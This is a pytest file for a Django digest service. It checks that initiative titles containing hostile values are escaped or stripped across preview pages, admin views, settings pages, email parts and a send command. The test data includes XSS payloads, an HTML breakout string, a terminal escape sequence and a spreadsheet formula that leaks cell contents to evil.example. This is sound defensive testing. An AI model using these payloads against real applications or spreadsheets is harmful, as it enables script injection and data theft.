"""Hostile titles through every place a summary is shown: the preview page and its HTML frame, the
admin's deliveries, the settings page, the email's subject, text and HTML, and send_digests.

Markup in a title is text: escaped in every page and in the HTML part, and shown as typed in the
plain-text parts (subject and text), which are never printed into a page unescaped.
"""

import datetime
import email
import io
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.core.management import call_command

from common.validators import CONTROL_CHARACTERS
from digests.delivery import deliveries_send
from digests.models import DigestDelivery, Subscription
from digests.schedule import schedule_digests
from digests.subscriptions import subscription_ensure_default
from initiatives.models import Initiative, Milestone
from initiatives.services import dependency_add, milestone_add
from summaries.engine import run as engine

from .builders import DAY, DAY_BEFORE, at, travel

pytestmark = pytest.mark.django_db

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = '<script>alert("digest")</script>'
BREAKOUT = "\"Quoted\" & 'single' </pre></textarea><b>bold</b>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
WHITESPACE = "Tab\there\nnew line\rreturn"  # the control characters the model still allows
TERMINAL = "\x1b[31mred\x07"  # refused by the model now; a row stored before that may hold them

TITLES = {"IMG": IMG, "SCRIPT": SCRIPT, "BREAKOUT": BREAKOUT, "FORMULA": FORMULA, "WHITESPACE": WHITESPACE}
AUTHORITY = 'City <i>of</i> "Copenhagen" & co'
MILESTONE = f"{IMG} {SCRIPT}"
# What must never appear in a page or an HTML part: the hostile markup, unescaped.
RAW_MARKUP = ["<img src=x", "<script>alert", "</pre></textarea>", "<b>bold</b>", "<i>of</i>", "onerror=alert(1)>"]


class Elements(HTMLParser):
    """Every element of a page, with its attributes, and the text of its scripts."""

    def __init__(self, page: str):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []
        self.script_text: list[str] = []
        self._in_script = False
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_text.append(data)


def assert_no_markup_passes(page: str) -> None:
    for raw in RAW_MARKUP:
        assert raw not in page, raw
    parsed = Elements(page)
    assert not [(tag, attrs) for tag, attrs in parsed.elements if any(name.startswith("on") for name in attrs)]
    assert not [attrs for tag, attrs in parsed.elements if tag == "img" and attrs.get("src") == "x"]
    assert not [tag for tag, _attrs in parsed.elements if tag in ("b", "i")]
    assert "alert" not in "".join(parsed.script_text)


def assert_digest_page_safe(page: str) -> None:
    """A page showing a summary: no markup passes, and no control character either (a summary
    strips those a row stored before the model refused them may hold)."""
    assert_no_markup_passes(page)
    assert not CONTROL_CHARACTERS.search(page)


def assert_titles_escaped(page: str) -> None:
    """The hostile titles are shown, as text."""
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;script&gt;alert(&quot;digest&quot;)&lt;/script&gt;" in page
    assert "&lt;/pre&gt;&lt;/textarea&gt;&lt;b&gt;bold&lt;/b&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Klik her&quot;)" in page


@pytest.fixture
def hostile(kobenhavn_coordinator, analyst, kobenhavn, digst, make_initiative):
    """København's coordinator subscribed (in English); then, before the summary of DAY, initiatives,
    a milestone and a dependency with hostile titles appear in København's scope."""
    kobenhavn.name_en = AUTHORITY
    kobenhavn.save()
    kobenhavn_coordinator.email = "kk@example.invalid"
    kobenhavn_coordinator.first_name = "<i>of</i> Eve"
    kobenhavn_coordinator.save()
    subscription_ensure_default(kobenhavn_coordinator)
    # Subscribed before the day (the coordinator's assignment subscribed them when the test began).
    Subscription.objects.filter(user=kobenhavn_coordinator).update(
        language="en", baseline_at=at(DAY_BEFORE, 2), baseline_at_risk=[]
    )
    with travel(DAY_BEFORE, 10):
        initiatives = {
            key: make_initiative(kobenhavn, code=f"H.{n}", title_en=title, title_da=title,
                                 baseline_end=datetime.date(2027, 6, 30), forecast_end=datetime.date(2027, 6, 30))
            for n, (key, title) in enumerate(TITLES.items(), start=1)
        }
        terminal = make_initiative(kobenhavn, code="H.9", title_en="Terminal", title_da="Terminal",
                                   baseline_end=datetime.date(2027, 6, 30), forecast_end=datetime.date(2027, 6, 30))
        # Stored before the model refused control characters (an update skips the validators).
        Initiative.objects.filter(pk=terminal.pk).update(title_en=TERMINAL, title_da=TERMINAL)
        upstream = make_initiative(digst, code="H.10", title_en=SCRIPT, title_da=SCRIPT,
                                   baseline_end=datetime.date(2026, 6, 30), forecast_end=datetime.date(2026, 6, 30))
        dependency_add(source=initiatives["IMG"], target=upstream)
        milestone = milestone_add(initiative=initiatives["SCRIPT"], title_da=MILESTONE, title_en=MILESTONE,
                                  baseline_date=datetime.date(2026, 12, 4))
        Milestone.objects.filter(pk=milestone.pk).update(title_en=f"{MILESTONE} {TERMINAL}")
        engine.recompute_summaries(wait=True)
    return initiatives


def preview(client, analyst, path: str):
    """The secretariat's preview of the coordinator's summary of DAY, as built on its morning."""
    with travel(DAY, 7):
        client.force_login(analyst)
        return client.get(path, {"user": "kk-coordinator", "date": DAY.isoformat()})


def test_the_preview_page_shows_the_text_part_escaped(client, analyst, hostile):
    response = preview(client, analyst, "/subscriptions/preview/")
    assert response.status_code == 200
    page = response.content.decode()
    assert_digest_page_safe(page)
    assert_titles_escaped(page)
    # The subject, as text: the authority's name escaped once, not twice.
    assert "City &lt;i&gt;of&lt;/i&gt; &quot;Copenhagen&quot; &amp; co" in page
    assert "&amp;lt;" not in page and "&amp;quot;" not in page


def test_the_preview_frame_shows_the_html_part_escaped(client, analyst, hostile):
    response = preview(client, analyst, "/subscriptions/preview/email.html")
    assert response.status_code == 200
    page = response.content.decode()
    assert_digest_page_safe(page)
    assert_titles_escaped(page)
    assert "&lt;i&gt;of&lt;/i&gt; Eve" in page  # the greeting
    assert "&amp;lt;" not in page


def test_the_email_parts_keep_titles_as_text(hostile):
    with travel(DAY, 6):
        result = schedule_digests()
        assert result.pending == 1
        deliveries_send(result.pending_ids)
    [sent] = mail.outbox
    # The subject is plain text: the name as typed, on one line, not HTML-escaped.
    assert sent.subject == f"Strategy portfolio 27.11.2026: {sent.subject.split(': ', 1)[1]}"
    assert sent.subject.endswith(f"for {AUTHORITY}")
    assert "\n" not in sent.subject and "&lt;" not in sent.subject and "&amp;" not in sent.subject

    received = email.message_from_bytes(sent.message().as_bytes())
    parts = {part.get_content_type(): part.get_payload(decode=True).decode() for part in received.walk()
             if not part.is_multipart()}
    assert set(parts) == {"text/plain", "text/html"}
    text, html = parts["text/plain"], parts["text/html"]
    # The text part is text: each title as typed (a mail client shows it as text), no control characters.
    for title in (IMG, SCRIPT, BREAKOUT, FORMULA, MILESTONE):
        assert title in text, title
    assert "Hello <i>of</i> Eve" in text and "&lt;" not in text
    assert "[31mred" in text and not CONTROL_CHARACTERS.search(text)
    assert_digest_page_safe(html)
    assert_titles_escaped(html)


def test_the_admin_shows_a_stored_summary_escaped(client, analyst, hostile):
    with travel(DAY, 6):
        schedule_digests()
    delivery = DigestDelivery.objects.get(recipient__username="kk-coordinator")
    assert IMG in delivery.text_body  # stored, waiting to be sent
    client.force_login(analyst)
    for path in ("/admin/digests/digestdelivery/", f"/admin/digests/digestdelivery/{delivery.pk}/change/"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_digest_page_safe(response.content.decode())
    page = client.get(f"/admin/digests/digestdelivery/{delivery.pk}/change/").content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in page  # the text part
    assert "&amp;lt;img src=x onerror=alert(1)&amp;gt;" in page  # the HTML part's source


def test_the_settings_page_lists_and_finds_hostile_titles_as_text(client, kobenhavn_coordinator, hostile):
    chosen = [initiative.pk for initiative in hostile.values()]
    Subscription.objects.get(user=kobenhavn_coordinator).initiatives.set(chosen[:2])
    Subscription.objects.filter(user=kobenhavn_coordinator).update(scope="initiatives")
    client.force_login(kobenhavn_coordinator)
    page = client.get("/subscriptions/").content.decode()
    assert_no_markup_passes(page)
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    response = client.post("/subscriptions/", {
        "action": "find-initiatives", "initiative_query": "H.", "initiatives": chosen[:2], "frequency": "daily",
        "language": "en", "scope": "initiatives",
    })
    page = response.content.decode()
    assert_no_markup_passes(page)
    assert_titles_escaped(page)


def test_send_digests_prints_no_control_characters(hostile):
    out = io.StringIO()
    with travel(DAY, 7):
        call_command("send_digests", "--dry-run", "--to", "kk-coordinator", stdout=out)
    output = out.getvalue()
    assert IMG in output and "[31mred" in output
    assert not CONTROL_CHARACTERS.search(output)
